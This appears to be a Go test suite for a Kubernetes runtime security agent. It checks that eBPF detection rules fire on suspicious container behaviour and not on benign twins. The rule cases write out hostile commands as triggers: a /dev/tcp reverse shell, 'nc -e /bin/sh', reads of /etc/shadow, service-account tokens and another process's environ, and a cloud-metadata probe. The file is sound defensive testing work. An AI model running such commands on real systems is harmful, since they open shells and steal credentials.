package agent_test

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/kubeward/kubeward/internal/agent"
	"github.com/kubeward/kubeward/internal/agent/agenttest"
	"github.com/kubeward/kubeward/internal/agent/attrib"
	"github.com/kubeward/kubeward/internal/agent/bpf"
	"github.com/kubeward/kubeward/internal/agent/event"
	"github.com/kubeward/kubeward/internal/agent/flowlog"
	"github.com/kubeward/kubeward/internal/agent/intent"
	"github.com/kubeward/kubeward/internal/agent/rules"
	"github.com/kubeward/kubeward/internal/audit/detect"
	"github.com/kubeward/kubeward/internal/kubetest"
	"github.com/kubeward/kubeward/internal/netpol"
	"github.com/kubeward/kubeward/internal/netpol/flows"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
)

const node = "node-1"

// TestMain lets the test binary act as a helper process in a simulated
// container (ptrace needs a program that calls it).
func TestMain(m *testing.M) {
	switch os.Getenv("KUBEWARD_AGENT_HELPER") {
	case "":
		os.Exit(m.Run())
	case "ptrace-attach":
		// PTRACE_SEIZE attaches without stopping the tracee; the tracer's
		// exit detaches it.
		pid, _ := strconv.Atoi(os.Args[len(os.Args)-1])
		if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, 0x4206, uintptr(pid), 0, 0, 0, 0); errno != 0 {
			fmt.Fprintln(os.Stderr, errno)
			os.Exit(1)
		}
		os.Exit(0)
	}
}

// rig is an agent on the real programs, attributing to the pods of a
// real API server.
type rig struct {
	agent *agent.Agent
	pods  *attrib.Pods
	mu    sync.Mutex
	seen  []event.Event
	got   []detect.Alert
	more  chan struct{}
}

func (r *rig) Observe(e *event.Event, dst []detect.Alert) []detect.Alert {
	r.mu.Lock()
	r.seen = append(r.seen, *e)
	r.mu.Unlock()
	r.poke()
	return dst
}

func (r *rig) poke() {
	select {
	case r.more <- struct{}{}:
	default:
	}
}

func (r *rig) consume(alerts []detect.Alert) {
	r.mu.Lock()
	r.got = append(r.got, alerts...)
	r.mu.Unlock()
	r.poke()
}

// wait polls cond (under the lock) until it holds, for 10s.
func (r *rig) wait(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		r.mu.Lock()
		ok := cond()
		r.mu.Unlock()
		if ok {
			return
		}
		select {
		case <-r.more:
		case <-time.After(100 * time.Millisecond):
		case <-deadline:
			t.Fatalf("timed out waiting for %s", what)
		}
	}
}

func (r *rig) alerts(rule, container string) []detect.Alert {
	var out []detect.Alert
	for _, a := range r.got {
		if a.Rule == rule && a.Process != nil && a.Process.Container == container {
			out = append(out, a)
		}
	}
	return out
}

func startRig(t *testing.T, cs kubernetes.Interface, extra ...func(ctx context.Context, eng *rules.Engine) agent.Detector) (*rig, *bpf.Probes) {
	t.Helper()
	p := agenttest.Load(t, bpf.Options{})
	root, err := bpf.CgroupRoot()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	r := &rig{more: make(chan struct{}, 1), pods: attrib.NewPods(cs, node)}
	go r.pods.Run(ctx)
	if err := r.pods.WaitSynced(ctx); err != nil {
		t.Fatal(err)
	}
	eng, err := rules.NewEngine(rules.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	dets := []agent.Detector{eng}
	for _, x := range extra {
		dets = append(dets, x(ctx, eng))
	}
	r.agent, err = agent.New(p, &attrib.Attributor{Cgroups: attrib.NewCgroups(root), Pods: r.pods},
		agent.Options{Node: node, Detectors: append(dets, r), Consumers: []func([]detect.Alert){r.consume}})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- r.agent.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("agent: %v", err)
		}
	})
	return r, p
}

// podWithContainers creates a pod whose containers are simulated, reports
// them running, and waits until the agent's pod index knows them.
func podWithContainers(t *testing.T, cs kubernetes.Interface, r *rig, pod *corev1.Pod, names ...string) map[string]*agenttest.Container {
	t.Helper()
	created := agenttest.Pod(t, cs, pod, node, names...)
	cs2 := map[string]*agenttest.Container{}
	ids := map[string]string{}
	for _, n := range names {
		c := agenttest.NewContainer(t, string(created.UID))
		cs2[n], ids[n] = c, c.ID
	}
	agenttest.Running(t, cs, created, ids)
	for _, n := range names {
		c := cs2[n]
		r.wait(t, "the pod index to know container "+n, func() bool {
			p := r.pods.Lookup(attrib.Container{ID: c.ID, PodUID: c.PodUID})
			return p != nil && p.Container == n
		})
	}
	return cs2
}

// TestAttribution: events of a simulated container name the node, pod,
// namespace, container, image and workload the API server knows.
func TestAttribution(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	r, _ := startRig(t, cs)
	yes := true
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web-7d4b9c-x2x9z", Namespace: "shop",
		Labels:          map[string]string{"app": "web", "pod-template-hash": "7d4b9c"},
		OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: "web-7d4b9c", UID: "1", Controller: &yes}}}}
	c := podWithContainers(t, cs, r, pod, "nginx")["nginx"]
	c.Run(t, "/bin/true attribution")
	var got event.Event
	r.wait(t, "the exec", func() bool {
		i := slices.IndexFunc(r.seen, func(e event.Event) bool { return e.Kind == event.Exec && slices.Contains(e.Args, "attribution") })
		if i >= 0 {
			got = r.seen[i]
		}
		return i >= 0
	})
	p := got.Pod
	if p == nil {
		t.Fatal("exec not attributed")
	}
	want := event.Pod{Node: node, Namespace: "shop", Name: "web-7d4b9c-x2x9z", Container: "nginx", ContainerID: c.ID,
		Image: "registry.example/nginx:1", Workload: "Deployment/web", UID: c.PodUID}
	if p.Node != want.Node || p.Namespace != want.Namespace || p.Name != want.Name || p.Container != want.Container ||
		p.ContainerID != want.ContainerID || p.Image != want.Image || p.Workload != want.Workload || p.UID != want.UID {
		t.Errorf("attributed to %+v, want %+v", *p, want)
	}
	if !strings.HasSuffix(p.ImageID, c.ID) {
		t.Errorf("image id %q", p.ImageID)
	}

	// A process outside any container is not attributed.
	if out, err := exec.Command("/bin/true", "host-side").CombinedOutput(); err != nil {
		t.Fatal(err, string(out))
	}
	r.wait(t, "the host exec", func() bool {
		return slices.ContainsFunc(r.seen, func(e event.Event) bool {
			return e.Kind == event.Exec && slices.Contains(e.Args, "host-side")
		})
	})
	for _, e := range r.seen {
		if e.Kind == event.Exec && slices.Contains(e.Args, "host-side") && e.Pod != nil {
			t.Errorf("host process attributed to %+v", *e.Pod)
		}
	}
}

// ruleCase is a behaviour that must fire rule and its benign twin that
// must not.
type ruleCase struct {
	rule      string
	do, twin  func(t *testing.T, c *agenttest.Container)
	needsKind string // a blind spot that makes the case impossible here
}

// tool copies /bin/true under a name: exec rules judge the program's
// name, and the copy runs anywhere.
func tool(t *testing.T, name string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "bin")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, b, 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

func run(script string) func(t *testing.T, c *agenttest.Container) {
	return func(t *testing.T, c *agenttest.Container) { c.Run(t, script) }
}

// private makes the container's mounts private, so what it mounts stays
// in its mount namespace.
const private = "mount --make-rprivate / && "

func ruleCases(t *testing.T) []ruleCase {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() { time.Sleep(2 * time.Second); c.Close() }()
		}
	}()
	port := strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// ptrace seizes a sleeping process; as nobody, the kernel refuses.
	ptrace := func(as string) func(t *testing.T, c *agenttest.Container) {
		return func(t *testing.T, c *agenttest.Container) {
			cmd := c.Command(t, "sh", "-c", "sleep 5 & "+as+self+" $!; r=$?; kill $!; exit $r")
			cmd.Env = append(os.Environ(), "KUBEWARD_AGENT_HELPER=ptrace-attach")
			out, err := cmd.CombinedOutput()
			if (err == nil) != (as == "") {
				t.Fatalf("ptrace %s: %v\n%s", as, err, out)
			}
		}
	}
	token := "mkdir -p /run/secrets/kubernetes.io/serviceaccount && echo t > /run/secrets/kubernetes.io/serviceaccount/token && "
	return []ruleCase{
		{rule: "terminal-shell-in-container",
			do:   run("script -qec 'sh -c true' /dev/null >/dev/null"),
			twin: run("sh -c true")},
		{rule: "reverse-shell",
			do:   run("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + port + "; sh -c true <&3 >&3'"),
			twin: run("echo | sh -c 'cat >/dev/null'")},
		{rule: "package-manager-in-container",
			do:   run(tool(t, "apt-get") + " install nmap"),
			twin: run(tool(t, "apt-cache") + " policy")},
		{rule: "compiler-in-container",
			do:   run(tool(t, "go") + " build ./..."),
			twin: run(tool(t, "go") + " version")},
		{rule: "network-tool-in-container",
			do:   run(tool(t, "nc") + " -e /bin/sh 10.0.0.1 4444"),
			twin: run(tool(t, "ncdu") + " /")},
		{rule: "sensitive-file-read",
			do:   run("cat /etc/shadow >/dev/null"),
			twin: run("cat /etc/hostname /etc/passwd >/dev/null")},
		{rule: "service-account-token-read",
			do:   run(private + "mount -t tmpfs none /run && " + token + "cat /run/secrets/kubernetes.io/serviceaccount/token >/dev/null"),
			twin: run(private + "mount -t tmpfs none /run && " + token + "cp /bin/cat /run/myapp && /run/myapp /run/secrets/kubernetes.io/serviceaccount/token >/dev/null")},
		{rule: "proc-environ-read",
			do: func(t *testing.T, c *agenttest.Container) {
				// The container sees the host's /proc: the other process
				// is a host process.
				other := exec.Command("sleep", "30")
				if err := other.Start(); err != nil {
					t.Fatal(err)
				}
				defer func() { other.Process.Kill(); other.Wait() }()
				c.Run(t, "cat /proc/"+strconv.Itoa(other.Process.Pid)+"/environ >/dev/null")
			},
			twin: run("cat /proc/self/environ >/dev/null")},
		{rule: "write-below-binary-dir",
			do:   run(private + "mount -t tmpfs none /usr/local/sbin && echo x > /usr/local/sbin/planted"),
			twin: run("d=$(mktemp -d) && echo x > $d/not-planted && rm -r $d")},
		{rule: "privilege-escalation-setuid",
			do:   run("setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps +setuid --ambient-caps +setuid -- setpriv --reuid 0 true"),
			twin: run("setpriv --reuid 65534 --regid 65534 --clear-groups true")},
		{rule: "namespace-change",
			do: run("unshare -n true"),
			// The same call outside a container: runtimes do it all day.
			twin: func(t *testing.T, c *agenttest.Container) {
				if out, err := exec.Command("unshare", "-n", "true").CombinedOutput(); err != nil {
					t.Fatal(err, string(out))
				}
			}},
		{rule: "mount-in-container",
			do:   run(private + "mount -t tmpfs none /mnt"),
			twin: run("! setpriv --reuid 65534 --regid 65534 --clear-groups mount -t tmpfs none /mnt 2>/dev/null")},
		{rule: "ptrace-attach",
			do:   ptrace(""),
			twin: ptrace("setpriv --reuid 65534 --regid 65534 --clear-groups ")},
		{rule: "kernel-module-load", needsKind: "init_module",
			do:   run("! insmod /nonexistent.ko 2>/dev/null"),
			twin: run("lsmod >/dev/null 2>&1 || true")},
		{rule: "metadata-service-connect",
			do:   run("bash -c 'echo x >/dev/udp/169.254.169.254/80' || true"),
			twin: run("bash -c 'echo x >/dev/udp/169.254.1.1/80' || true")},
	}
}

// TestRules: each rule fires on its behaviour in a simulated container of
// a pod in the API server, and not on its benign twin.
func TestRules(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	r, probes := startRig(t, cs)
	cases := ruleCases(t)
	var names []string
	for i := range cases {
		names = append(names, "do"+strconv.Itoa(i), "twin"+strconv.Itoa(i))
	}
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "victim", Namespace: "rules"}}
	cons := podWithContainers(t, cs, r, pod, names...)
	covered := map[string]bool{}
	for i, tc := range cases {
		t.Run(tc.rule, func(t *testing.T) {
			if tc.needsKind != "" && slices.ContainsFunc(probes.Missing, func(m string) bool { return strings.HasPrefix(m, tc.needsKind) }) {
				t.Skipf("this kernel has no %s: the behaviour cannot happen here", tc.needsKind)
			}
			covered[tc.rule] = true
			do, twin := "do"+strconv.Itoa(i), "twin"+strconv.Itoa(i)
			tc.twin(t, cons[twin])
			tc.do(t, cons[do])
			r.wait(t, tc.rule+" on its behaviour", func() bool { return len(r.alerts(tc.rule, do)) > 0 })
			// Everything the twin did was handled once an exec after it is.
			sentinel := "sentinel-" + strconv.Itoa(i)
			cons[twin].Run(t, "/bin/true "+sentinel)
			r.wait(t, "the sentinel", func() bool {
				return slices.ContainsFunc(r.seen, func(e event.Event) bool { return e.Kind == event.Exec && slices.Contains(e.Args, sentinel) })
			})
			r.mu.Lock()
			defer r.mu.Unlock()
			if a := r.alerts(tc.rule, twin); len(a) > 0 {
				t.Errorf("fired on the benign twin: %s", a[0].Message)
			}
			a := r.alerts(tc.rule, do)[0]
			if a.Object == nil || a.Object.Name != "victim" || a.Object.Namespace != "rules" || a.Node != node || len(a.MITRE) == 0 {
				t.Errorf("alert %+v", a)
			}
		})
	}
	// Stateful rules (Eval nil) have their own tests above and below.
	for _, rl := range rules.Rules() {
		if !covered[rl.ID] && rl.Eval != nil && rl.ID != "exec-not-allowed" && rl.ID != "kernel-module-load" {
			t.Errorf("rule %s has no case", rl.ID)
		}
	}
}

// watchPolicies is the agent's cluster-wide NetworkPolicy model, rebuilt
// on every change.
func watchPolicies(ctx context.Context, t *testing.T, cs kubernetes.Interface, eng *rules.Engine) *intent.Policies {
	t.Helper()
	p := intent.NewPolicies(cs, eng)
	p.Rebuild = 0
	go p.Run(ctx)
	if err := p.WaitSynced(ctx); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestNetworkPolicyNotEnforced: a connection the NetworkPolicies deny,
// delivered between two simulated pods (this machine enforces no
// policies), alerts; an allowed one does not.
func TestNetworkPolicyNotEnforced(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	r, _ := startRig(t, cs, func(ctx context.Context, eng *rules.Engine) agent.Detector {
		return watchPolicies(ctx, t, cs, eng)
	})
	web := podWithContainers(t, cs, r, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "shop", Labels: map[string]string{"app": "web"}}}, "web")["web"]
	for name, ip := range map[string]string{"db": "10.244.1.2", "api": "10.244.1.3"} {
		p := agenttest.Pod(t, cs, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "shop", Labels: map[string]string{"app": name}}}, node, name)
		agenttest.Running(t, cs, p, map[string]string{name: strings.Repeat("0", 63) + name[:1]}, ip)
	}
	// db accepts only from app=api; api accepts anything.
	pol := &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Name: "db-from-api", Namespace: "shop"},
		Spec: networkingv1.NetworkPolicySpec{PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"app": "db"}},
			PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress},
			Ingress:     []networkingv1.NetworkPolicyIngressRule{{From: []networkingv1.NetworkPolicyPeer{{PodSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "api"}}}}}}}}
	if _, err := cs.NetworkingV1().NetworkPolicies("shop").Create(context.Background(), pol, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	ns := agenttest.NewNetNS(t, "10.244.1.2", "10.244.1.3")
	ns.Listen(t, "10.244.1.2:5432")
	ns.Listen(t, "10.244.1.3:8080")
	denied := func() []detect.Alert {
		var out []detect.Alert
		for _, a := range r.alerts("networkpolicy-not-enforced", "web") {
			out = append(out, a)
		}
		return out
	}
	// The model follows the API server within a moment: repeat.
	deadline := time.Now().Add(20 * time.Second)
	for {
		web.Run(t, ns.In("bash -c 'exec 3<>/dev/tcp/10.244.1.3/8080' && bash -c 'exec 3<>/dev/tcp/10.244.1.2/5432'"))
		r.mu.Lock()
		got := denied()
		r.mu.Unlock()
		if len(got) > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no alert for the denied flow")
		}
		time.Sleep(300 * time.Millisecond)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range denied() {
		if a.Details["destination"] != "shop/Pod/db" || a.Details["port"] != "5432" || a.Details["source"] != "shop/Pod/web" {
			t.Errorf("alert on an allowed flow or with wrong details: %s %v", a.Message, a.Details)
		}
	}
	if a := denied()[0]; !strings.Contains(a.Details["reason"], "db-from-api") {
		t.Errorf("reason %q does not name the policy", a.Details["reason"])
	}
}

// TestBaselineNovelExec: a workload's executables are learned during its
// window; past it, a new one alerts and a learned one does not.
func TestBaselineNovelExec(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	const learn = 3 * time.Second
	r, _ := startRig(t, cs, func(_ context.Context, eng *rules.Engine) agent.Detector { return intent.NewBaselines(eng, learn) })
	c := podWithContainers(t, cs, r, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "batch", Namespace: "jobs"}}, "main")["main"]
	start := time.Now()
	c.Run(t, "/bin/true; /bin/ls / >/dev/null")
	time.Sleep(time.Until(start.Add(learn + time.Second)))
	c.Run(t, "/bin/true; /bin/ls / >/dev/null; /bin/date >/dev/null")
	r.wait(t, "novel-exec", func() bool { return len(r.alerts("novel-exec", "main")) > 0 })
	r.sentinel(t, c, "sentinel-baseline")
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range r.alerts("novel-exec", "main") {
		if a.Details["executable"] != "/bin/date" || a.Workload != "Pod/batch" {
			t.Errorf("novel-exec on %s (%s)", a.Details["executable"], a.Message)
		}
	}
}

// writeDir is a directory for containers to write in, outside the
// temporary directories a baseline learns as a whole.
func writeDir(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("/run", "kubeward-baseline-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// reportWrites makes the programs report every file written below the
// pods' cgroups (the containers' cgroups must exist), as the agent does
// with --baselines.
func reportWrites(t *testing.T, p *bpf.Probes) {
	t.Helper()
	root, err := bpf.CgroupRoot()
	if err != nil {
		t.Fatal(err)
	}
	roots := attrib.PodRoots(root)
	if len(roots) == 0 {
		t.Fatal("no kubepods cgroup")
	}
	if err := p.ReportWritesBelow(roots...); err != nil {
		t.Fatal(err)
	}
}

// sentinel runs an exec with a marker in the container and waits until
// the agent has seen it: the events before it have been judged.
func (r *rig) sentinel(t *testing.T, c *agenttest.Container, mark string) {
	t.Helper()
	c.Run(t, "/bin/true "+mark)
	r.wait(t, "the sentinel", func() bool {
		return slices.ContainsFunc(r.seen, func(e event.Event) bool { return slices.Contains(e.Args, mark) })
	})
}

// TestBaselineNovelFileWrite: the files a workload writes are learned
// during its window, as patterns (a dated log file stands for the next
// day's); past it, a file outside them alerts and a learned one does not.
func TestBaselineNovelFileWrite(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	const learn = 3 * time.Second
	r, p := startRig(t, cs, func(_ context.Context, eng *rules.Engine) agent.Detector { return intent.NewBaselines(eng, learn) })
	c := podWithContainers(t, cs, r, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "batch", Namespace: "jobs"}}, "main")["main"]
	reportWrites(t, p)
	dir := writeDir(t)
	start := time.Now()
	c.Run(t, fmt.Sprintf("mkdir -p %[1]s/logs && echo a >%[1]s/state && echo b >>%[1]s/logs/app-2026-12-07.log && echo c >/dev/null", dir))
	r.wait(t, "the learned write", func() bool {
		return slices.ContainsFunc(r.seen, func(e event.Event) bool { return e.Kind == event.Open && e.Path == dir+"/state" })
	})
	time.Sleep(time.Until(start.Add(learn + time.Second)))
	c.Run(t, fmt.Sprintf("echo a >%[1]s/state && echo b >>%[1]s/logs/app-2026-12-08.log && echo c >%[1]s/dropped.sh", dir))
	r.wait(t, "novel-file-write", func() bool { return len(r.alerts("novel-file-write", "main")) > 0 })
	r.sentinel(t, c, "sentinel-files")
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range r.alerts("novel-file-write", "main") {
		if a.Details["path"] != dir+"/dropped.sh" || a.Workload != "Pod/batch" || len(a.MITRE) == 0 {
			t.Errorf("novel-file-write on %s (%s)", a.Details["path"], a.Message)
		}
	}
}

// TestBaselineNovelPeer: the peers a workload connects to are learned as
// the workloads the cluster watch names; past the window, a new peer
// alerts, naming it, and a learned one does not.
func TestBaselineNovelPeer(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	const learn = 3 * time.Second
	var pol *intent.Policies
	r, _ := startRig(t, cs, func(ctx context.Context, eng *rules.Engine) agent.Detector {
		pol = watchPolicies(ctx, t, cs, eng)
		b := intent.NewBaselines(eng, learn)
		b.Resolver = pol
		return b
	})
	for name, ip := range map[string]string{"db": "10.244.1.2", "api": "10.244.1.3"} {
		p := agenttest.Pod(t, cs, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "shop", Labels: map[string]string{"app": name}}}, node, name)
		agenttest.Running(t, cs, p, map[string]string{name: strings.Repeat("0", 63) + name[:1]}, ip)
	}
	r.wait(t, "the watch to name api and db", func() bool {
		a, okA := pol.Peer(netip.MustParseAddr("10.244.1.3"), time.Now())
		d, okD := pol.Peer(netip.MustParseAddr("10.244.1.2"), time.Now())
		return okA && okD && a.Workload == "Pod/api" && d.Workload == "Pod/db"
	})
	web := podWithContainers(t, cs, r, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "shop"}}, "web")["web"]
	ns := agenttest.NewNetNS(t, "10.244.1.2", "10.244.1.3")
	ns.Listen(t, "10.244.1.3:8080")
	ns.Listen(t, "10.244.1.2:5432")
	start := time.Now()
	web.Run(t, ns.In("bash -c 'exec 3<>/dev/tcp/10.244.1.3/8080'"))
	time.Sleep(time.Until(start.Add(learn + time.Second)))
	web.Run(t, ns.In("bash -c 'exec 3<>/dev/tcp/10.244.1.3/8080; exec 4<>/dev/tcp/10.244.1.2/5432'"))
	r.wait(t, "novel-peer", func() bool { return len(r.alerts("novel-peer", "web")) > 0 })
	r.sentinel(t, web, "sentinel-peers")
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range r.alerts("novel-peer", "web") {
		if a.Details["peer"] != "shop/Pod/db" || a.Details["port"] != "5432" || a.Details["protocol"] != "TCP" || a.Workload != "Pod/web" {
			t.Errorf("novel-peer %s %v", a.Message, a.Details)
		}
	}
}

// TestBaselineHandEdited: entries a person wrote into the baselines file
// (a file, a directory, a CIDR on any port) are known to the agent; what
// they do not cover still alerts.
func TestBaselineHandEdited(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	dir := writeDir(t)
	file := filepath.Join(t.TempDir(), "baselines.json")
	edited := fmt.Sprintf(`{"jobs/Pod/batch": {"since": "2026-01-01T00:00:00Z",
		"executables": ["/bin/sh", "/bin/true", "/usr/bin/nsenter", "/usr/bin/bash", "/bin/bash"],
		"files": [%q, %q],
		"peers": [{"address": "10.244.2.0/24", "protocol": "TCP"}]}}`, dir+"/edited.log", dir+"/cache/")
	if err := os.WriteFile(file, []byte(edited), 0o600); err != nil {
		t.Fatal(err)
	}
	r, p := startRig(t, cs, func(_ context.Context, eng *rules.Engine) agent.Detector {
		b := intent.NewBaselines(eng, time.Hour)
		if err := b.Load(file); err != nil {
			t.Fatal(err)
		}
		return b
	})
	c := podWithContainers(t, cs, r, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "batch", Namespace: "jobs"}}, "main")["main"]
	reportWrites(t, p)
	ns := agenttest.NewNetNS(t, "10.244.2.7", "10.244.3.7")
	ns.Listen(t, "10.244.2.7:9000")
	ns.Listen(t, "10.244.3.7:9000")
	c.Run(t, fmt.Sprintf("mkdir -p %[1]s/cache/x && echo a >%[1]s/edited.log && echo b >%[1]s/cache/x/y && echo c >%[1]s/other.log", dir))
	c.Run(t, ns.In("bash -c 'exec 3<>/dev/tcp/10.244.2.7/9000; exec 4<>/dev/tcp/10.244.3.7/9000'"))
	r.wait(t, "novel-file-write and novel-peer", func() bool {
		return len(r.alerts("novel-file-write", "main")) > 0 && len(r.alerts("novel-peer", "main")) > 0
	})
	r.sentinel(t, c, "sentinel-edited")
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range r.alerts("novel-file-write", "main") {
		if a.Details["path"] != dir+"/other.log" {
			t.Errorf("novel-file-write on %s, which the edited baseline covers", a.Details["path"])
		}
	}
	for _, a := range r.alerts("novel-peer", "main") {
		if a.Details["address"] != "10.244.3.7" {
			t.Errorf("novel-peer on %s, which the edited baseline covers", a.Details["address"])
		}
	}
}

// TestFlowLog: the connections of a simulated pod are written to the
// flow log once each, their peers named as the pods the API server
// knows; kubeward netpol generate --from-flows turns the log into
// policies the engine proves allow them, and nothing else between the
// same pods.
func TestFlowLog(t *testing.T) {
	agenttest.RequireBPF(t)
	cl := kubetest.Start(t, kubetest.Options{})
	cs := cl.Client()
	logFile := filepath.Join(t.TempDir(), "flows.jsonl")
	f, err := os.Create(logFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r, _ := startRig(t, cs, func(ctx context.Context, eng *rules.Engine) agent.Detector {
		w := flowlog.New(f, watchPolicies(ctx, t, cs, eng), node, nil)
		w.Retry = 0
		return w
	})
	web := podWithContainers(t, cs, r, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "shop", Labels: map[string]string{"app": "web", "pod-template-hash": "5d"}}}, "web")["web"]
	for name, ip := range map[string]string{"db": "10.244.1.2", "api": "10.244.1.3"} {
		p := agenttest.Pod(t, cs, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "shop", Labels: map[string]string{"app": name}}}, node, name)
		agenttest.Running(t, cs, p, map[string]string{name: strings.Repeat("0", 63) + name[:1]}, ip)
	}
	ns := agenttest.NewNetNS(t, "10.244.1.2", "10.244.1.3")
	ns.Listen(t, "10.244.1.3:8080")
	ns.Listen(t, "10.244.1.2:5432")
	read := func() []flows.Record {
		var out []flows.Record
		data, _ := os.ReadFile(logFile)
		var problems []flows.Problem
		err := flows.Read(logFile, bytes.NewReader(data), func(rec *flows.Record) { out = append(out, *rec) }, func(p flows.Problem) { problems = append(problems, p) })
		if err != nil || len(problems) > 0 {
			t.Fatalf("the flow log does not read back: %v %v", err, problems)
		}
		return out
	}
	// The agent's model follows the API server within a moment: repeat
	// until the api pod is named (the records before it name an address).
	deadline := time.Now().Add(20 * time.Second)
	for named := false; !named; {
		web.Run(t, ns.In("bash -c 'exec 3<>/dev/tcp/10.244.1.3/8080'"))
		time.Sleep(200 * time.Millisecond)
		for _, rec := range read() {
			named = named || rec.Destination.Workload == "Pod/api"
		}
		if !named && time.Now().After(deadline) {
			t.Fatalf("no record names the api pod: %+v", read())
		}
	}
	web.Run(t, ns.In("bash -c 'exec 3<>/dev/tcp/10.244.1.3/8080; exec 4<>/dev/tcp/10.244.1.2/5432'"))
	r.wait(t, "the flow to db", func() bool {
		for _, rec := range read() {
			if rec.Destination.Workload == "Pod/db" {
				return true
			}
		}
		return false
	})
	recs := read()
	apiRecords := 0
	g, err := flows.NewGenerator(flows.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range recs {
		rec := &recs[i]
		if rec.Direction != flows.Outbound || rec.Protocol != "TCP" || rec.Source.Workload != "Pod/web" || rec.Source.Labels["app"] != "web" || rec.Node != node {
			t.Errorf("record %+v", rec)
		}
		if rec.Destination.Workload == "Pod/api" {
			apiRecords++
			if rec.Port != 8080 || rec.Destination.Labels["app"] != "api" || rec.Destination.IP != "10.244.1.3" {
				t.Errorf("api record %+v", rec)
			}
		}
		g.Add(rec)
	}
	if apiRecords != 1 {
		t.Errorf("the flow to api was written %d times, want once", apiRecords)
	}
	res := g.Result()
	pods := []netpol.Pod{
		{Namespace: "shop", Kind: "Pod", Name: "web", Labels: map[string]string{"app": "web", "pod-template-hash": "5d"}},
		{Namespace: "shop", Kind: "Pod", Name: "api", Labels: map[string]string{"app": "api"}},
		{Namespace: "shop", Kind: "Pod", Name: "db", Labels: map[string]string{"app": "db"}},
	}
	e := netpol.New(netpol.Input{Pods: pods, Policies: res.Policies})
	web0, api, db := netpol.PodEndpoint(0), netpol.PodEndpoint(1), netpol.PodEndpoint(2)
	for _, tc := range []struct {
		src, dst netpol.Endpoint
		port     int
		want     bool
	}{{web0, api, 8080, true}, {web0, db, 5432, true}, {web0, api, 5432, false}, {api, db, 5432, false}, {db, web0, 8080, false}} {
		if got := e.Allowed(tc.src, tc.dst, tc.port, netpol.TCP); got != tc.want {
			t.Errorf("%s -> %s %d: allowed %v, want %v", e.Name(tc.src), e.Name(tc.dst), tc.port, got, tc.want)
		}
	}
}
